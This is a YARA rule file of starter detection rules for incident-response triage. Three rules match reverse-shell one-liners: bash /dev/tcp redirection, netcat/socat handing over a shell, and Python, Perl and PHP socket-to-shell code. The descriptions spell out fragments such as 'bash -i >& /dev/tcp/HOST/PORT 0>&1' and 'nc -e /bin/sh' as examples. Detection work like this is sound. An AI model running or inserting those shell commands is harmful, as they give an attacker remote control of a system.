// Starter rules for ir-triage: reverse-shell one-liners left in scripts, cron jobs, units and histories.
rule reverse_shell_dev_tcp
{
    meta:
        description = "bash reverse shell through /dev/tcp (bash -i >& /dev/tcp/HOST/PORT 0>&1)"
        severity = "high"
    strings:
        $a = /(ba)?sh -i *[>&]+ *\/dev\/(tcp|udp)\// ascii
        $b = /\/dev\/(tcp|udp)\/[0-9a-zA-Z.\-]+\/[0-9]+ *0>&1/ ascii
        $c = /exec [0-9]+<>\/dev\/tcp\// ascii
    condition:
        any of them
}

rule reverse_shell_netcat_socat
{
    meta:
        description = "netcat or socat handing a shell to a remote host (nc -e /bin/sh, socat exec:sh)"
        severity = "high"
    strings:
        $nc = /\bnc(at)?(\.traditional)? [^\n]{0,60}-e *\/bin\/(ba)?sh/ ascii
        $fifo = /mkfifo [^\n]{0,40}; *(cat|tail) [^\n]{0,40}\| *\/bin\/(ba)?sh -i[^\n]{0,40}\| *nc / ascii
        $socat = /socat [^\n]{0,80}exec:['"]?(\/bin\/)?(ba)?sh/ ascii nocase
    condition:
        any of them
}

rule reverse_shell_scripting_language
{
    meta:
        description = "Python, Perl or PHP reverse shell (socket connected to a shell's standard streams)"
        severity = "high"
    strings:
        $py1 = "socket.socket(" ascii
        $py2 = "os.dup2(" ascii
        $py3 = /pty\.spawn\(|subprocess\.call\(\[["']\/bin\/(ba)?sh/ ascii
        $pl1 = "use Socket;" ascii
        $pl2 = /exec\(["']\/bin\/(ba)?sh -i/ ascii
        $php = /fsockopen\([^)]*\);[^\n]{0,80}(exec|shell_exec|system|passthru|proc_open)\(["']\/bin\/(ba)?sh/ ascii
    condition:
        ($py1 and $py2 and $py3) or ($pl1 and $pl2) or $php
}
